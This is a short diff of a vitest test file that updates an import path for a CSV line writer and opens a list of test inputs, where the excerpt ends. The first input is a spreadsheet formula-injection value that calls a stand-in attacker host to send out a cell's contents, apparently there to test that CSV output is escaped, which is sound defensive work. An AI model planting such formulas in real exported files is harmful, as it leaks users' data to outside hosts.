@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { csvLine } from '../src/csv/write-csv.ts';
+import { csvLine } from '../src/csv.ts';
 
 test.each([
   '=HYPERLINK("http://evil.example/?"&A1)',
